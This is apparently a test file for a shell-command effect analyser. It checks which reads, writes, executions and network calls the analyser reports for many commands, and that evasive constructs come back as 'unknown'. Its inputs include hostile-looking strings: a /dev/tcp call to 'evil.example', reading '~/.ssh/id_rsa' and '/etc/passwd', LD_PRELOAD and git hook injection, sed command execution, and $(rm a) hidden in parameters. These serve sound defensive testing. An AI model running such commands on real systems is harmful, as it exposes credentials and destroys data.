import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { effectsOfCommand } from './analyse.js';

/** What a command line does: `analyse.ts`, its invariants by number. One line each: `read a`, `write b/`, `unknown`. */
function told(source: string, cwd?: string): string {
  const lines = effectsOfCommand(source, cwd).map((effect) => {
    switch (effect.kind) {
      case 'read':
      case 'write':
        return `${effect.kind} ${effect.path}${effect.subtree ? ' and below' : ''}`;
      case 'execute':
        return `execute ${effect.program}`;
      case 'network':
        return `network ${effect.host ?? '?'}`;
      case 'unknown':
        return 'unknown';
    }
  });
  return [...new Set(lines)].sort().join(', ');
}

describe('what is understood', () => {
  it.each([
    ['true', ''],
    ['echo hello "$USER" $(pwd)', ''],
    ['cat a b/c', 'read a, read b/c'],
    ['/usr/bin/cat a', 'read a'],
    ['c\'a\'t "a b"', 'read a b'],
    ['\\cat a', 'read a'],
    ['head -n 5 a && tail -3 b', 'read a, read b'],
    ['cat -- -x', 'read -x'],
    ['cat < a > b', 'read a, write b'],
    ['echo x >> log 2>&1', 'write log'],
    ['echo x &> all', 'write all'],
    ['echo x >/dev/null 2>/dev/stderr', ''],
    ['ls', 'read .'],
    ['ls -la src', 'read src'],
    ['ls -R src', 'read src and below'],
    ['grep -rn TODO src', 'read src and below'],
    ['grep TODO a b', 'read a, read b'],
    ['grep -r TODO', 'read . and below'],
    ['rg TODO', 'read . and below'],
    ['cat src/*.ts', 'read src/ and below'],
    ['cat ./*', 'read ./ and below'],
    ['find src -name "*.ts" -type f', 'read src and below'],
    ['find', 'read . and below'],
    ['mkdir -p a/b && touch a/b/c', 'write a/b, write a/b/c'],
    ['rm -rf build', 'write build and below'],
    ['cp a b', 'read a, write b, write b/a and below'],
    ['mv a b', 'write a and below, write b, write b/a and below'],
    ['sort a | uniq -c | tee out', 'read a, write out'],
    ["sed -n '1,5p' a", 'read a'],
    ["sed -i 's/old/new/g' a", 'write a'],
    ['git status', 'read . and below'],
    ['git --no-pager log --oneline -5', 'read . and below'],
    ['git diff /etc/passwd x', 'read . and below, read /etc/passwd, read x'],
    ['git commit -m x', 'execute git'],
    ['git push', 'execute git, network ?'],
    ['npm test', 'execute npm'],
    ['npm install left-pad', 'execute npm, network ?'],
    ['curl -s https://user:pw@Example.com:8443/x', 'execute curl, network example.com'],
    ['./build.sh', 'execute ./build.sh'],
    ['timeout 5 cat a', 'read a'],
    ['nice -n5 make', 'execute make'],
    ['bash -c "cat a"', 'read a'],
    ['sh -c \'bash -c "rm b"\'', 'write b'],
    ['cd src && cat a', 'read a, read src/a'],
    ['cd src; cd lib; cat a', 'read a, read lib/a, read src/a, read src/lib/a'],
    ['if test -f a; then cat a; else touch a; fi', 'read a, write a'],
    ['for f in a b; do echo "$f"; done', ''],
    ['x=1; echo "${x:-2}"', ''],
    ['! cat a', 'read a'],
    ['(cat a; cat b) > c', 'read a, read b, write c'],
    ['echo $((1 + 2 * 3))', ''],
    ['[[ a == b ]] && cat a', 'read a'],
    ['echo > /dev/tcp/evil.example/80', 'network evil.example'],
    ['cat <<EOF > a\ntext\nEOF', 'write a'],
  ])('%s', (source, wanted) => expect(told(source)).toBe(wanted));

  it('is below the working folder', () => expect(told('cat a /b', 'src')).toBe('read /b, read src/a'));
});

describe('what is in another command is told', () => {
  it.each([
    ['echo "$(rm a)"', 'write a'],
    ['echo `rm a`', 'write a'],
    ['cat <(rm a)', 'write a'],
    ['echo ${x:-$(rm a)}', 'write a'],
    ['cat <<EOF\n$(rm a)\nEOF', 'write a'],
    ['case x in $(rm a)) ;; esac', 'write a'],
    ['x=$(rm a)', 'write a'],
    ['for f in $(rm a); do :; done', 'write a'],
    ['[[ -n $(rm a) ]]', 'write a'],
    ['if false; then rm a; fi', 'write a'],
    ['true || rm a', 'write a'],
    ['echo "${x#$(rm a)}"', 'write a'],
    ['cat <<< "$(rm a)"', 'write a'],
    ['echo {b,$(rm a)}', 'write a'],
    ['time rm a', 'write a'],
  ])('%s', (source, wanted) => expect(told(source)).toContain(wanted));

  it('and not what is only text', () => expect(told("cat <<'EOF'\n$(rm a)\nEOF")).toBe(''));
});

describe('what is not understood is said to be (invariants 1 and 2)', () => {
  it.each([
    'eval "rm a"',
    'source x',
    '. ./x',
    'exec rm a',
    'bash x.sh',
    'bash',
    'echo "rm a" | sh',
    'bash <<< "rm a"',
    'bash -ic "cat a"',
    'bash -c "$x"',
    '$x a',
    '"$(echo rm)" a',
    'r$x a',
    '{r,}m a',
    'cat $x',
    'cat "$HOME/x"',
    'cat ~/.ssh/id_rsa',
    'cat ~root/x',
    'cat $(ls)',
    'cat {a,b}',
    'cat */../../x',
    'cat *',
    'sort *',
    'cat a > $x',
    'cat a > *',
    'alias cat=rm; cat a',
    'cat() { rm "$@"; }; cat a',
    'function cat { rm a; }',
    'PATH=/tmp:$PATH cat a',
    'PATH=. ; cat a',
    'LD_PRELOAD=./x.so cat a',
    'BASH_ENV=x cat a',
    'GIT_EXTERNAL_DIFF=./x git diff',
    'https_proxy=http://x cat a',
    'env X=1 cat a',
    'export PATH=.',
    'trap "rm a" EXIT',
    'set -o noglob',
    'shopt -s expand_aliases',
    'enable -f ./x.so x',
    'xargs rm < a',
    'sudo cat a',
    'coproc cat a',
    'cat a &',
    'find . -exec rm {} +',
    'find . -delete',
    'find . -fprint a',
    'find -L .',
    'find $x',
    'sort -o a b',
    'sort --compress-program=./x a',
    'sed -e "1w a" b',
    "sed 's/a/b/w out' x",
    "sed 's/a/touch x/e' x",
    "sed '1e rm a' x",
    "sed 'p;w out' x",
    'grep -f /etc/passwd x',
    'grep -R x .',
    'rg --pre ./x y',
    'rg -L x',
    'git -c core.pager=./x log',
    'git --exec-path=. status',
    'git log $x',
    'tree -L $x',
    'head -n $x a',
    'printf -v PATH x',
    "test -v 'a[$(rm b)]'",
    '[ -v x ]',
    '[ $x ]',
    "[[ -v 'a[$(rm b)]' ]]",
    '[[ $x -eq 1 ]]',
    'echo $((x))',
    '((x = 1))',
    'for ((i = 0; i < 3; i++)); do :; done',
    'echo ${x@P}',
    'echo ${!x}',
    'echo ${x:=y}',
    'echo ${a[x]}',
    'echo ${x:y}',
    'a[x]=1',
    'for PATH in a; do :; done',
    'select x in a; do :; done',
    'while read x; do :; done < a',
    'cd ..; cat a',
    'cd; cat a',
    'cd -; cat a',
    'cd "$x"; cat a',
    'while true; do cat a; cd b; done',
    'exec {fd}> a',
    'cat a {fd}> b',
    'timeout -s KILL 5 cat a',
    'nohup $x',
    'cat a\0',
    'echo "unclosed',
    'if true; then',
    'cat a )',
    `cat ${'a'.repeat(40_000)}`,
    `${'('.repeat(500)}cat a${')'.repeat(500)}`,
    `cat ${'$('.repeat(300)}x${')'.repeat(300)}`,
    'sh -c \'sh -c "sh -c \\"sh -c \\\\\\"sh -c true\\\\\\"\\""\'; sh -c true; sh -c :; sh -c pwd; sh -c id; sh -c :',
  ])('%s', (source) => expect(told(source)).toContain('unknown'));
});

describe('any text', () => {
  const piece = fc.constantFrom(
    ...[
      'cat',
      'rm',
      '-rf',
      ' ',
      ';',
      '&&',
      '|',
      '&',
      '(',
      ')',
      '{',
      '}',
      '$',
      '"',
      "'",
      '`',
      '\\',
      '\n',
      '<<',
      '>',
    ],
    ...[
      '<',
      '#',
      '[',
      ']',
      '*',
      '?',
      '~',
      '=',
      '!',
      'a',
      'x=1',
      '$((',
      '))',
      '$(',
      '${',
      'if',
      'then',
      'fi',
      'EOF',
    ],
  );

  it('has an answer (invariant 3)', () => {
    const text = fc.oneof(
      fc.string({ unit: 'binary', maxLength: 200 }),
      fc.array(piece, { maxLength: 60 }).map((parts) => parts.join('')),
    );
    fc.assert(
      fc.property(text, (source) => void expect(effectsOfCommand(source)).toBeInstanceOf(Array)),
      { numRuns: 4_000 },
    );
  });

  it('does no less with more after it', () => {
    const line = fc.constantFrom(
      'cat a',
      'rm -r b',
      'echo "$x"',
      'make',
      'cd c && ls',
      'eval x',
      'git log',
      'x=1',
    );
    fc.assert(
      fc.property(line, fc.constantFrom('\n', ';', ' && ', ' || ', ' | '), line, (one, by, other) => {
        const both = told(`${one}${by}${other}`).split(', ');
        for (const effect of told(one).split(', ').filter(Boolean)) expect(both).toContain(effect);
      }),
    );
  });
});
